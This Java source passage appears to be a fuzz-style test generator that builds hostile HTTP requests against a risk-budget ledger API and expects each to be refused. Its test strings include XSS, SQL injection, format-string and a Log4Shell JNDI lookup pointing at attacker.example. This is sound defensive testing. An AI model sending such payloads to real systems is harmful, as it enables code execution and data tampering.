package org.riskbudget.bench.reliability;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.IntFunction;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Generates hostile requests from a seed. Each one is refused by construction, so any answer but the expected 4xx
 * is a defect: command bodies that would succeed as they are get exactly one defect (an unknown, missing, mistyped,
 * out-of-range, oversized or malformed field, malformed JSON, a wrong Content-Type or Accept, a bad, forged or
 * expired token, a role or company that may not act, such as another company's id, a bad idempotency key, a path
 * that names nothing or that the firewall or Tomcat refuses); bodies full of unicode edge cases and extreme numbers
 * are valid JSON that the ledger must refuse later (a company without budget, an id already taken); reads get query
 * parameters out of range. None may answer 5xx, none may hang, and the event store must not change.
 */
final class HostileRequests {

    /** One generated case: what it is, the request, and the statuses that would be right. */
    record HostileCase(int number, String category, String description, Service service, RawHttp.Request request,
            Set<Integer> expected) {

        @Override
        public String toString() {
            return "#" + number + " " + category + " (" + description + ") " + service + " " + request;
        }
    }

    enum Service { LEDGER, PROJECTION }

    /**
     * What the generator knows of the hostile test's regime.
     *
     * @param regimeId      a regime with companies {@code able} (budget), {@code broke} (none) and {@code other}
     * @param submittedCase a case of {@code able}, submitted and under review
     * @param tokens        valid tokens by {@code ROLE} or {@code COMPANY:company}
     * @param knownKey      an idempotency key the dev REGULATOR token already used for an allocation
     * @param unauthenticated Authorization header values that must answer 401, by name (null: no header)
     */
    record Context(String regimeId, String submittedCase, Map<String, String> tokens, String knownKey,
            Map<String, String> unauthenticated) {}

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final String RAW = "@@raw@@";
    private static final int BODY_LIMIT_BYTES = 256 * 1024;

    private static final List<String> CATEGORIES = List.of("unknown field", "missing field", "null field",
            "wrong type", "numbers out of range", "decimal strings", "duplicate key", "malformed JSON",
            "deep nesting", "oversized text", "malformed id", "control characters and lone surrogates",
            "unicode and extreme values the ledger refuses", "body over the limit", "Content-Type",
            "unauthenticated", "forbidden role or company", "idempotency key", "path", "method",
            "read query parameters", "read path ids", "read unauthenticated", "ledger query parameters",
            "dev token requests", "Accept header", "header bytes");

    private static final List<String> UNKNOWN_NAMES = List.of("amountppb", "AmountPpb", "amount_ppb", "amount",
            "companyID", "company_id", "regimeId", "extra", "", " ", "__proto__", "constructor", "@class", "$type",
            "type", "sequence", "actor", "hash", "previousHash", "idempotencyKey", "ämount", "😀", "\\u0000",
            "amountPpb ", "x".repeat(300));
    private static final List<String> BAD_AMOUNTS = List.of("1e400", "-1e400", "99999999999999999999999", "-1",
            "0", "-0", "1000000001", "9223372036854775807", "9223372036854775808", "-9223372036854775808",
            "1.5", "1.0", "1e3", "1E2", "0x10", "01", "+1", ".5", "1" + "0".repeat(2_000), "NaN", "Infinity",
            "-Infinity", "true", "\"1\"", "[1]", "{}");
    /** Decimal strings no probability or likelihood ratio may be: not plain digits, or too many of them. */
    private static final List<String> BAD_DECIMALS = List.of("1e400", "1E-5", "-0.1", "-0",
            "0.1234567890123456789", "12345678901234", " 0.1", "0.1 ", ".5", "5.", "", "NaN", "Infinity",
            "0x1", "１", "٠.٥", "0,5", "1/2", "0.1.2", "∞", "+0.5");
    private static final List<String> BAD_PROBABILITIES_ONLY = List.of("1.5", "2", "1.000000000000000001");
    private static final List<String> BAD_RATIOS_ONLY = List.of("0", "0.0", "0.000000000000000000");
    private static final List<String> BAD_IDS = List.of("", " ", "-leading-dash", ".leading-dot", "_x", "a b",
            "a/b", "a\\\\b", "..", ".", "a\\u0000", "\\ud800", "\\udfff", "😀", "\\u202Eevil", "ａｂｃ",
            "a\\u200Bb", "e\\u0301", "a\\nb", "Ω", "a".repeat(65), "a".repeat(5_000), "<script>", "a;b", "a%2Fb",
            "a?b", "a#b", "a*b");
    /** JSON string contents (escaped where needed) that no text field may hold. */
    private static final List<String> BAD_TEXTS = List.of("\\u0000", "nul\\u0000inside", "\\ud800", "\\udfff",
            "a\\ud800b", "\\udc00\\ud800", "bell\\u0007", "\\u001b[31mred", "del\\u007f", "nel\\u0085",
            "cr\\rlf", "\\u0008backspace");
    /** Valid, if unkind, text: it must pass validation and reach the ledger's refusal. */
    private static final List<String> UNKIND_TEXTS = List.of("héllo wörld", "名前と説明", "😀🚀🔥",
            "\u202Eevil\u202C", "zero\u200Bwidth", "e\u0301\u0301\u0301", "Ω≈ç√∫",
            "ｆｕｌｌｗｉｄｔｈ",
            "tab\tand\nnewline", "<script>alert(1)</script>", "'; DROP TABLE domainevententry; --", "%s%n%x",
            "${jndi:ldap://attacker.example/x}", "\\u0000 written out", "\uD83D\uDE00 paired surrogates",
            "\uFEFFbyte order mark", "\uFFFF\uFFFE noncharacters", "x".repeat(190));
    private static final List<String> BAD_KEYS = List.of("", " ", "a b", "x".repeat(201), "tab\tkey", "é",
            "ключ", "ключ-with-cyrillic");
    /**
     * Not JSON, or not a media type at all. A charset parameter on application/json is not among them: JSON is
     * UTF-8 (RFC 8259), and a parser that detects the encoding from the bytes rightly ignores the parameter.
     */
    private static final List<String> BAD_CONTENT_TYPES = List.of("", "text/plain", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "foo", "application",
            "application/json;charset=garbage", "application/json; charset=\"", "application/json, text/plain",
            "text/json", "application/octet-stream", "image/png");
    /** Media types the ledger's command answers are not: well-formed, so not disregarded like a malformed Accept. */
    private static final List<String> UNPRODUCIBLE = List.of("text/html", "image/png", "application/xml",
            "application/problem+xml", "text/plain");
    private static final List<String> ACCEPTS = List.of("text/html", "image/png", "application/xml", "*/*",
            "application/json", "garbage", "text/plain;q=0.1", "", "application/problem+xml", "*/");
    /** Header values with bytes a careless client sends: UTF-8 (C1 controls once read as Latin-1), raw Latin-1. */
    private static final List<String> ODD_HEADER_VALUES = List.of("ключ", "naïve-café", "日本語", "emoji-😀",
            "\u0085", "tab\there");

    private final Random random;
    private final Context context;

    HostileRequests(long seed, Context context) {
        this.random = new Random(seed);
        this.context = context;
    }

    HostileCase next(int number) {
        String category = pick(CATEGORIES);
        HostileCase generated = switch (category) {
            case "unknown field" -> bodyDefect(number, category, this::unknownField);
            case "missing field" -> bodyDefect(number, category, this::missingField);
            case "null field" -> bodyDefect(number, category, this::nullField);
            case "wrong type" -> bodyDefect(number, category, this::wrongType);
            case "numbers out of range" -> bodyDefect(number, category, this::numberOutOfRange);
            case "decimal strings" -> decimalStrings(number, category);
            case "duplicate key" -> bodyDefect(number, category, this::duplicateKey);
            case "malformed JSON" -> bodyDefect(number, category, this::malformed);
            case "deep nesting" -> bodyDefect(number, category, this::deepNesting);
            case "oversized text" -> bodyDefect(number, category, this::oversizedText);
            case "malformed id" -> bodyDefect(number, category, this::malformedId);
            case "control characters and lone surrogates" -> bodyDefect(number, category, this::badText);
            case "unicode and extreme values the ledger refuses" -> unkindButValid(number, category);
            case "body over the limit" -> overLimit(number, category);
            case "Content-Type" -> contentType(number, category);
            case "unauthenticated" -> unauthenticated(number, category);
            case "forbidden role or company" -> forbidden(number, category);
            case "idempotency key" -> idempotencyKey(number, category);
            case "path" -> path(number, category);
            case "method" -> method(number, category);
            case "read query parameters" -> readParameters(number, category);
            case "read path ids" -> readPathIds(number, category);
            case "read unauthenticated" -> readUnauthenticated(number, category);
            case "ledger query parameters" -> ledgerParameters(number, category);
            case "dev token requests" -> devTokens(number, category);
            case "Accept header" -> accept(number, category);
            case "header bytes" -> headerBytes(number, category);
            default -> throw new IllegalStateException(category);
        };
        return generated;
    }

    // ------------------------------------------------------------------ the ledger's command endpoints

    /**
     * A command endpoint with a body that succeeds as it is.
     *
     * @param required fields a request must carry (dotted paths into the body)
     * @param amounts  whole-number ppb fields that must be at least 1
     * @param ids      identifier fields
     * @param texts    text fields and their length limits
     */
    private record Endpoint(String name, String method, String path, String token, String actingCompany,
            IntFunction<ObjectNode> happy, List<String> required, List<String> amounts, List<String> ids,
            Map<String, Integer> texts, Set<String> roles) {}

    private List<Endpoint> endpoints() {
        String regime = "/api/v1/regimes/" + context.regimeId();
        return List.of(
                new Endpoint("allocate", "POST", regime + "/allocations", token("REGULATOR"), null,
                        n -> JSON.objectNode().put("companyId", "able").put("amountPpb", 1),
                        List.of("companyId", "amountPpb"), List.of("amountPpb"), List.of("companyId"), Map.of(),
                        Set.of("REGULATOR")),
                new Endpoint("reclaim", "POST", regime + "/reclamations", token("REGULATOR"), null,
                        n -> JSON.objectNode().put("companyId", "able").put("amountPpb", 1).put("reason", "hostile"),
                        List.of("companyId", "amountPpb", "reason"), List.of("amountPpb"), List.of("companyId"),
                        Map.of("reason", 2_000), Set.of("REGULATOR")),
                new Endpoint("transfer", "POST", regime + "/transfers", token("COMPANY:able"), "able",
                        n -> JSON.objectNode().put("transferId", "t-hostile-" + n).put("fromCompanyId", "able")
                                .put("toCompanyId", "other").put("amountPpb", 1).put("reference", "hostile"),
                        List.of("fromCompanyId", "toCompanyId", "amountPpb"), List.of("amountPpb"),
                        List.of("transferId", "fromCompanyId", "toCompanyId"), Map.of("reference", 500),
                        Set.of("COMPANY")),
                new Endpoint("register", "POST", regime + "/companies", token("REGULATOR"), null,
                        n -> JSON.objectNode().put("companyId", "c-hostile-" + n).put("name", "Hostile " + n),
                        List.of("companyId", "name"), List.of(), List.of("companyId"), Map.of("name", 200),
                        Set.of("REGULATOR")),
                new Endpoint("open", "POST", "/api/v1/regimes", token("REGULATOR"), null,
                        n -> {
                            ObjectNode body = JSON.objectNode().put("id", "r-hostile-" + n).put("name", "Hostile")
                                    .put("capPpb", 1_000);
                            body.putObject("policy");
                            return body;
                        },
                        List.of("id", "name", "capPpb"), List.of("capPpb"), List.of("id"), Map.of("name", 200),
                        Set.of("REGULATOR")),
                new Endpoint("submit", "POST", regime + "/safety-cases", token("COMPANY:able"), "able",
                        n -> LoadCommand.caseBody("k-hostile-" + n, "able", 1),
                        List.of("caseId", "companyId", "system", "capabilityTier", "window", "assessments",
                                "system.name", "system.version", "window.from", "window.to",
                                "assessments.misuse.riskPpb"),
                        List.of(), List.of("caseId", "companyId"),
                        Map.of("system.name", 200, "system.version", 100), Set.of("COMPANY")),
                new Endpoint("accept", "POST", regime + "/safety-cases/" + context.submittedCase() + "/acceptance",
                        token("REGULATOR"), null, n -> JSON.objectNode().put("reasons", "meets policy"),
                        List.of("reasons"), List.of(), List.of(), Map.of("reasons", 2_000), Set.of("REGULATOR")),
                new Endpoint("withdraw", "POST", regime + "/safety-cases/" + context.submittedCase()
                        + "/withdrawal", token("COMPANY:able"), "able",
                        n -> JSON.objectNode().put("reasons", "no longer needed"),
                        List.of("reasons"), List.of(), List.of(), Map.of("reasons", 2_000), Set.of("COMPANY")),
                new Endpoint("policy", "PUT", regime + "/policy", token("REGULATOR"), null,
                        n -> JSON.objectNode().put("maxEvidenceLikelihoodRatio", "20")
                                .put("transfersNeedApproval", false).put("reviewRequired", true),
                        List.of(), List.of(), List.of(), Map.of(), Set.of("REGULATOR")));
    }

    /** A defect in an otherwise succeeding body; the defect decides the expected status. */
    private interface BodyDefect {
        Defect apply(Endpoint endpoint, ObjectNode body);
    }

    /** The body as bytes, what was done to it, and the statuses that would be right; null when not applicable. */
    private record Defect(byte[] body, String description, Set<Integer> expected) {}

    private HostileCase bodyDefect(int number, String category, BodyDefect defect) {
        for (int attempt = 0; attempt < 20; attempt++) {
            Endpoint endpoint = pick(endpoints());
            Defect applied = defect.apply(endpoint, endpoint.happy().apply(number));
            if (applied != null) {
                return command(number, category, endpoint.name() + ": " + applied.description(), endpoint,
                        applied.body(), applied.expected());
            }
        }
        throw new IllegalStateException("no endpoint takes a defect of category " + category);
    }

    private HostileCase command(int number, String category, String description, Endpoint endpoint, byte[] body,
            Set<Integer> expected) {
        return new HostileCase(number, category, description, Service.LEDGER, new RawHttp.Request(endpoint.method(),
                endpoint.path(), RawHttp.headers("Authorization", "Bearer " + endpoint.token(), "Content-Type",
                "application/json", "Idempotency-Key", "hostile-" + number), body, random.nextInt(10) == 0),
                expected);
    }

    private Defect unknownField(Endpoint endpoint, ObjectNode body) {
        String name = pick(UNKNOWN_NAMES);
        List<String> objects = objectPaths(body);
        String parent = pick(objects);
        ObjectNode target = parent.isEmpty() ? body : (ObjectNode) at(body, parent);
        if (target.has(name)) {
            return null;
        }
        target.set(name, pick(List.of(JSON.numberNode(1), JSON.stringNode("x"), JSON.nullNode(),
                JSON.booleanNode(true), JSON.arrayNode(), JSON.objectNode())));
        return new Defect(bytes(body), "unknown field \"" + shorten(name) + "\" in " + (parent.isEmpty() ? "the body"
                : parent), Set.of(400));
    }

    private Defect missingField(Endpoint endpoint, ObjectNode body) {
        if (endpoint.required().isEmpty()) {
            return null;
        }
        String field = pick(endpoint.required());
        parentOf(body, field).remove(last(field));
        return new Defect(bytes(body), "without " + field, Set.of(400));
    }

    private Defect nullField(Endpoint endpoint, ObjectNode body) {
        if (endpoint.required().isEmpty()) {
            return null;
        }
        String field = pick(endpoint.required());
        parentOf(body, field).putNull(last(field));
        return new Defect(bytes(body), field + " null", Set.of(400));
    }

    private Defect wrongType(Endpoint endpoint, ObjectNode body) {
        List<String> fields = leafAndObjectPaths(body);
        String field = pick(fields);
        JsonNode current = at(body, field);
        List<String> others = new ArrayList<>();
        if (!current.isNumber()) {
            others.addAll(List.of("1", "1.5", "-7"));
        }
        if (!current.isString()) {
            others.addAll(List.of("\"1\"", "\"x\"", "\"\""));
        }
        if (!current.isBoolean()) {
            others.addAll(List.of("true", "false"));
        }
        if (!current.isArray()) {
            others.addAll(List.of("[]", "[\"able\"]", "[1]"));
        }
        if (!current.isObject()) {
            others.addAll(List.of("{}", "{\"value\":1}"));
        }
        if (current.isNumber()) {
            others.add("1.0");
        }
        String value = pick(others);
        return new Defect(withRaw(body, field, value), field + " = " + value, Set.of(400));
    }

    private Defect numberOutOfRange(Endpoint endpoint, ObjectNode body) {
        if (endpoint.amounts().isEmpty()) {
            return endpoint.name().equals("submit") ? riskOutOfRange(body) : null;
        }
        String field = pick(endpoint.amounts());
        String value = pick(BAD_AMOUNTS);
        return new Defect(withRaw(body, field, value), field + " = " + shorten(value), Set.of(400));
    }

    private Defect riskOutOfRange(ObjectNode body) {
        String value = pick(BAD_AMOUNTS.stream().filter(amount -> !amount.equals("0") && !amount.equals("-0"))
                .toList());
        String field = pick(List.of("assessments.misuse.riskPpb", "assessments.security.riskPpb"));
        if (field.startsWith("assessments.security")) {
            ((ObjectNode) at(body, "assessments")).putObject("security").put("level", "SL3").put("riskPpb", 1);
        }
        return new Defect(withRaw(body, field, value), field + " = " + shorten(value), Set.of(400));
    }

    private HostileCase decimalStrings(int number, String category) {
        Endpoint submit = endpoints().stream().filter(endpoint -> endpoint.name().equals("submit")).findFirst()
                .orElseThrow();
        ObjectNode body = submit.happy().apply(number);
        ObjectNode misalignment = ((ObjectNode) at(body, "assessments")).putObject("misalignment")
                .put("priorProbability", "0.03");
        ArrayNode evidence = misalignment.putArray("evidence");
        evidence.addObject().put("kind", "BEHAVIOURAL").put("description", "honeypots").put("likelihoodRatio", "4");
        String field = pick(List.of("assessments.misalignment.priorProbability",
                "assessments.misalignment.catastropheGivenScheming", "likelihoodRatio"));
        List<String> bad = new ArrayList<>(BAD_DECIMALS);
        bad.addAll(field.equals("likelihoodRatio") ? BAD_RATIOS_ONLY : BAD_PROBABILITIES_ONLY);
        String value = pick(bad);
        ObjectNode target = field.equals("likelihoodRatio") ? (ObjectNode) evidence.get(0) : parentOf(body, field);
        target.put(last(field), value);
        return command(number, category, "submit: " + field + " = \"" + value + "\"", submit, bytes(body),
                Set.of(400));
    }

    private Defect duplicateKey(Endpoint endpoint, ObjectNode body) {
        if (body.isEmpty()) {
            return null;
        }
        String text = body.toString();
        String firstField = body.propertyNames().iterator().next();
        String member = "\"" + firstField + "\":" + body.get(firstField).toString();
        String duplicated = "{" + member + "," + text.substring(1);
        return new Defect(duplicated.getBytes(StandardCharsets.UTF_8), "\"" + firstField + "\" twice", Set.of(400));
    }

    private Defect malformed(Endpoint endpoint, ObjectNode body) {
        byte[] valid = bytes(body);
        String text = body.toString();
        int choice = random.nextInt(12);
        return switch (choice) {
            case 0 -> {
                // At least one byte: an empty body is a valid absent body where the body is optional.
                int length = 1 + random.nextInt(valid.length - 1);
                yield new Defect(Arrays.copyOf(valid, length), "cut after " + length + " bytes",
                        Set.of(400));
            }
            case 1 -> {
                String garbage = pick(List.of("x", "}", "{}", ",", " 1", "/*", "\\u0000", "]", "\"", "null"));
                yield new Defect((text + garbage).getBytes(StandardCharsets.UTF_8), "trailing " + garbage,
                        Set.of(400));
            }
            case 2 -> {
                String garbage = pick(List.of("x", ")]}'\n", ",", "[", "\"", "//"));
                yield new Defect((garbage + text).getBytes(StandardCharsets.UTF_8), "leading " + garbage.trim(),
                        Set.of(400));
            }
            case 3 -> new Defect(text.replace('"', '\'').getBytes(StandardCharsets.UTF_8), "single quotes",
                    Set.of(400));
            case 4 -> new Defect(("{/* comment */" + text.substring(1)).getBytes(StandardCharsets.UTF_8),
                    "a comment", Set.of(400));
            case 5 -> new Defect((text.substring(0, text.length() - 1) + "]").getBytes(StandardCharsets.UTF_8),
                    "closed with ]", Set.of(400));
            case 6 -> new Defect(("{" + text.substring(1, text.length() - 1) + ",}").getBytes(
                    StandardCharsets.UTF_8), "trailing comma", Set.of(400));
            case 7 -> {
                // Not the overlong forms (C0 AF for '/'): Jackson decodes those, so they are no defect here.
                byte[] invalid = pick(List.of(new byte[] {(byte) 0xC3, '('}, new byte[] {(byte) 0xFF},
                        new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                        new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
                        new byte[] {(byte) 0xE2, (byte) 0x82}));
                yield body.isEmpty() ? null : new Defect(intoFirstString(text, invalid),
                        "invalid UTF-8 in a string", Set.of(400));
            }
            case 8 -> body.isEmpty() ? null : new Defect(intoFirstString(text, new byte[] {0x01}),
                    "raw control character in a string", Set.of(400));
            case 9 -> endpoint.required().isEmpty() ? null
                    : new Defect(pick(List.of("", "null", "[]", "\"body\"", "42", "true", "{}", " ", "\n"))
                            .getBytes(StandardCharsets.UTF_8), "not an object with the required fields",
                            Set.of(400));
            case 10 -> new Defect(text.replaceFirst(":", ":NaN,\"x\":").getBytes(StandardCharsets.UTF_8),
                    "NaN", Set.of(400));
            default -> new Defect(("\u0000" + text).getBytes(StandardCharsets.UTF_8), "leading NUL byte",
                    Set.of(400));
        };
    }

    private Defect deepNesting(Endpoint endpoint, ObjectNode body) {
        int depth = pick(List.of(64, 500, 1_001, 5_000, 40_000));
        boolean arrays = random.nextBoolean();
        StringBuilder nested = new StringBuilder();
        nested.append((arrays ? "[" : "{\"a\":").repeat(depth)).append("1").append((arrays ? "]" : "}").repeat(depth));
        String field = random.nextBoolean() && !leafAndObjectPaths(body).isEmpty() ? pick(leafAndObjectPaths(body))
                : "nested";
        if (field.equals("nested")) {
            body.put("nested", 0);
        }
        return new Defect(withRaw(body, field, nested.toString()), field + " nested " + depth + " deep in "
                + (arrays ? "arrays" : "objects"), Set.of(400));
    }

    private Defect oversizedText(Endpoint endpoint, ObjectNode body) {
        if (endpoint.texts().isEmpty()) {
            return null;
        }
        String field = pick(List.copyOf(endpoint.texts().keySet()));
        int limit = endpoint.texts().get(field);
        int length = limit + 1 + random.nextInt(random.nextBoolean() ? 10 : 100_000);
        String filler = pick(List.of("x", "é", "😀", " "));
        String text = filler.repeat(Math.max(1, length / filler.length()));
        if (text.length() <= limit) {
            text = text + "xx";
        }
        parentOf(body, field).put(last(field), text);
        return new Defect(bytes(body), field + " of " + text.length() + " chars (limit " + limit + ")",
                Set.of(400, 413));
    }

    private Defect malformedId(Endpoint endpoint, ObjectNode body) {
        if (endpoint.ids().isEmpty()) {
            return null;
        }
        String field = pick(endpoint.ids());
        String id = pick(BAD_IDS);
        return new Defect(withRaw(body, field, "\"" + id + "\""), field + " = \"" + shorten(id) + "\"",
                Set.of(400));
    }

    private Defect badText(Endpoint endpoint, ObjectNode body) {
        if (endpoint.texts().isEmpty()) {
            return null;
        }
        String field = pick(List.copyOf(endpoint.texts().keySet()));
        String text = pick(BAD_TEXTS);
        return new Defect(withRaw(body, field, "\"" + text + "\""), field + " = \"" + text + "\"", Set.of(400));
    }

    /**
     * Valid JSON full of unicode edge cases and extreme magnitudes, sent where the ledger must refuse it on its
     * merits: budget the company does not have, an id already taken, a case under review.
     */
    private HostileCase unkindButValid(int number, String category) {
        String regime = "/api/v1/regimes/" + context.regimeId();
        String text = pick(UNKIND_TEXTS);
        int choice = random.nextInt(6);
        String method = "POST";
        String path;
        String token;
        ObjectNode body;
        Set<Integer> expected;
        String description;
        switch (choice) {
            case 0 -> {
                path = regime + "/companies";
                token = token("REGULATOR");
                body = JSON.objectNode().put("companyId", "able").put("name", text);
                expected = Set.of(409);
                description = "register able again, named \"" + shorten(text) + "\"";
            }
            case 1 -> {
                path = "/api/v1/regimes";
                token = token("REGULATOR");
                body = JSON.objectNode().put("id", context.regimeId()).put("name", text)
                        .put("capPpb", 1 + random.nextInt(1_000_000_000));
                body.set("policy", randomPolicy());
                expected = Set.of(409);
                description = "open the existing regime again, named \"" + shorten(text) + "\"";
            }
            case 2 -> {
                path = regime + "/transfers";
                token = token("COMPANY:broke");
                body = JSON.objectNode().put("fromCompanyId", "broke").put("toCompanyId", "able")
                        .put("amountPpb", 1 + random.nextInt(1_000_000_000)).put("reference", text);
                expected = Set.of(409);
                description = "transfer from broke, reference \"" + shorten(text) + "\"";
            }
            case 3 -> {
                path = regime + "/reclamations";
                token = token("REGULATOR");
                body = JSON.objectNode().put("companyId", "broke").put("amountPpb", 1 + random.nextInt(1_000))
                        .put("reason", text);
                expected = Set.of(409);
                description = "reclaim from broke, reason \"" + shorten(text) + "\"";
            }
            case 4 -> {
                path = regime + "/safety-cases/" + context.submittedCase() + "/revocation";
                token = token("REGULATOR");
                body = JSON.objectNode().put("reasons", text);
                expected = Set.of(409);
                description = "revoke a case under review, reasons \"" + shorten(text) + "\"";
            }
            default -> {
                path = regime + "/safety-cases";
                token = token("COMPANY:broke");
                body = extremeCase(number, text);
                // Over budget (409), against the policy (422), or naming a case that does not exist (404).
                expected = Set.of(404, 409, 422);
                description = "a case of broke with extreme figures and text \"" + shorten(text) + "\"";
            }
        }
        return new HostileCase(number, category, description, Service.LEDGER, new RawHttp.Request(method, path,
                RawHttp.headers("Authorization", "Bearer " + token, "Content-Type", "application/json",
                        "Idempotency-Key", "hostile-" + number), bytes(body), false), expected);
    }

    /** A case of {@code broke}, which has no budget: whatever its figures, at least 1 ppb of risk is refused. */
    private ObjectNode extremeCase(int number, String text) {
        ObjectNode body = LoadCommand.caseBody("k-extreme-" + number, "broke", 1 + random.nextInt(1_000_000_000));
        ((ObjectNode) body.get("system")).put("name", text.length() > 200 ? text.substring(0, 200) : text);
        body.put("capabilityTier", pick(List.of("BELOW_3X", "AI_3X", "AI_10X", "TEDAI")));
        ObjectNode assessments = (ObjectNode) body.get("assessments");
        if (random.nextBoolean()) {
            assessments.putObject("security").put("level", pick(List.of("SL1", "SL2", "SL3", "SL4", "SL5")))
                    .put("riskPpb", random.nextInt(1_000_000_001));
        }
        if (random.nextBoolean()) {
            ObjectNode misalignment = assessments.putObject("misalignment")
                    .put("priorProbability", extremeDecimal(true));
            if (random.nextBoolean()) {
                misalignment.put("catastropheGivenScheming", extremeDecimal(true));
            }
            ArrayNode evidence = misalignment.putArray("evidence");
            int items = pick(List.of(0, 1, 5, 100));
            for (int i = 0; i < items; i++) {
                evidence.addObject().put("kind", pick(List.of("BEHAVIOURAL", "CONTROL", "INTERPRETABILITY",
                                "MODEL_ORGANISM")))
                        .put("description", text.isBlank() ? "x" : text)
                        .put("likelihoodRatio", extremeDecimal(false));
            }
        }
        if (random.nextInt(4) == 0) {
            body.putArray("dependsOn").add(pick(List.of(context.submittedCase(), "k-none-" + number)));
        }
        return body;
    }

    private String extremeDecimal(boolean probability) {
        List<String> values = probability
                ? List.of("0", "1", "0.000000000000000001", "0.999999999999999999", "0.5", "1.000000000000000000")
                : List.of("0.000000000000000001", "9999999999999.999999999999999999", "1", "20",
                        "20.000000000000000001", "0.5", "1234567890123");
        return pick(values);
    }

    private ObjectNode randomPolicy() {
        ObjectNode policy = JSON.objectNode();
        if (random.nextBoolean()) {
            policy.putObject("minSecurityLevel").put(pick(List.of("TEDAI", "AI_10X", "AI_3X", "BELOW_3X")),
                    pick(List.of("SL1", "SL5")));
        }
        if (random.nextBoolean()) {
            String ratio = extremeDecimal(false);
            policy.put("maxEvidenceLikelihoodRatio", ratio.startsWith("0.") ? "1" : ratio);
        }
        if (random.nextBoolean()) {
            policy.put("maxCaseRiskPpb", random.nextInt(1_000_000_001));
        }
        policy.put("transfersNeedApproval", random.nextBoolean()).put("reviewRequired", random.nextBoolean());
        return policy;
    }

    // ------------------------------------------------------------------ size, media type, tokens, keys, paths

    private HostileCase overLimit(int number, String category) {
        Endpoint endpoint = pick(endpoints());
        int size = BODY_LIMIT_BYTES + 1 + random.nextInt(random.nextBoolean() ? 16 : 2 * BODY_LIMIT_BYTES);
        ObjectNode body = endpoint.happy().apply(number);
        String text = body.toString();
        // Valid JSON padded with whitespace, so only its size is wrong.
        String padded = text.substring(0, text.length() - 1) + " ".repeat(Math.max(0, size - text.length())) + "}";
        boolean chunked = random.nextBoolean();
        return new HostileCase(number, category, endpoint.name() + ": " + padded.length() + " bytes"
                + (chunked ? " streamed without a length" : ""), Service.LEDGER, new RawHttp.Request(endpoint.method(),
                endpoint.path(), RawHttp.headers("Authorization", "Bearer " + endpoint.token(), "Content-Type",
                "application/json", "Idempotency-Key", "hostile-" + number), padded.getBytes(StandardCharsets.UTF_8),
                chunked), Set.of(413));
    }

    private HostileCase contentType(int number, String category) {
        Endpoint endpoint = pick(endpoints());
        String type = pick(BAD_CONTENT_TYPES);
        List<Map.Entry<String, String>> headers = RawHttp.headers("Authorization", "Bearer " + endpoint.token(),
                "Idempotency-Key", "hostile-" + number);
        if (!type.isEmpty() || random.nextBoolean()) {
            headers.add(Map.entry("Content-Type", type));
        }
        return new HostileCase(number, category, endpoint.name() + ": Content-Type "
                + (headers.size() == 2 ? "absent" : "\"" + type + "\""), Service.LEDGER,
                new RawHttp.Request(endpoint.method(), endpoint.path(), headers,
                        bytes(endpoint.happy().apply(number)), false), Set.of(400, 415));
    }

    private HostileCase unauthenticated(int number, String category) {
        Endpoint endpoint = pick(endpoints());
        String name = pick(List.copyOf(context.unauthenticated().keySet()));
        String authorization = context.unauthenticated().get(name);
        List<Map.Entry<String, String>> headers = RawHttp.headers("Content-Type", "application/json",
                "Idempotency-Key", "hostile-" + number);
        if (authorization != null) {
            headers.add(Map.entry("Authorization", authorization));
        }
        return new HostileCase(number, category, endpoint.name() + ": " + name, Service.LEDGER,
                new RawHttp.Request(endpoint.method(), endpoint.path(), headers,
                        bytes(endpoint.happy().apply(number)), false), Set.of(401));
    }

    private HostileCase forbidden(int number, String category) {
        Endpoint endpoint = pick(endpoints());
        List<String> callers = new ArrayList<>();
        for (String caller : List.of("REGULATOR", "AUDITOR", "VIEWER", "COMPANY:able", "COMPANY:other")) {
            String role = caller.split(":")[0];
            boolean allowed = endpoint.roles().contains(role)
                    && (endpoint.actingCompany() == null || caller.equals("COMPANY:" + endpoint.actingCompany()));
            if (!allowed) {
                callers.add(caller);
            }
        }
        String caller = pick(callers);
        return new HostileCase(number, category, endpoint.name() + " as " + caller, Service.LEDGER,
                new RawHttp.Request(endpoint.method(), endpoint.path(), RawHttp.headers("Authorization",
                        "Bearer " + token(caller), "Content-Type", "application/json", "Idempotency-Key",
                        "hostile-" + number), bytes(endpoint.happy().apply(number)), false), Set.of(403));
    }

    private HostileCase idempotencyKey(int number, String category) {
        Endpoint endpoint = pick(endpoints());
        boolean reuse = random.nextInt(3) == 0 && endpoint.token().equals(token("REGULATOR"));
        String key = reuse ? context.knownKey() : pick(BAD_KEYS);
        return new HostileCase(number, category, endpoint.name() + ": " + (reuse ? "a key used for another request"
                : "key \"" + shorten(key) + "\""), Service.LEDGER, new RawHttp.Request(endpoint.method(),
                endpoint.path(), RawHttp.headers("Authorization", "Bearer " + endpoint.token(), "Content-Type",
                "application/json", "Idempotency-Key", key), bytes(endpoint.happy().apply(number)), false),
                reuse ? Set.of(409) : Set.of(400));
    }

    private HostileCase path(int number, String category) {
        Endpoint endpoint = pick(endpoints().stream().filter(candidate -> candidate.path().contains(
                context.regimeId())).toList());
        int choice = random.nextInt(5);
        String path;
        Set<Integer> expected;
        String description;
        if (choice == 4) {
            // Refused by the security firewall or by Tomcat before any controller: problem+json all the same.
            String odd = pick(List.of("a%2Fb", "a%00b", "a%25b", "%2E%2E", "a%5Cb", context.regimeId() + ";x=1", "",
                    "%ZZ", "a".repeat(10_000)));
            path = endpoint.path().replace(context.regimeId(), odd);
            expected = Set.of(400, 404);
            description = "regime id \"" + shorten(odd) + "\" refused before any controller";
        } else if (choice == 0) {
            path = endpoint.path().replace(context.regimeId(), "no-such-regime-" + number);
            expected = Set.of(404);
            description = "a regime that does not exist";
        } else if (choice == 1) {
            String id = pick(List.of("-x", "a b", "😀", "\u202Eabc", "a".repeat(65), "a".repeat(3_000), "Ω", "a*b",
                    "ａ", "a\u0001b", "a'b", "a\"b", "a<b>"));
            path = endpoint.path().replace(context.regimeId(), encode(id));
            expected = Set.of(400);
            description = "regime id \"" + shorten(id) + "\"";
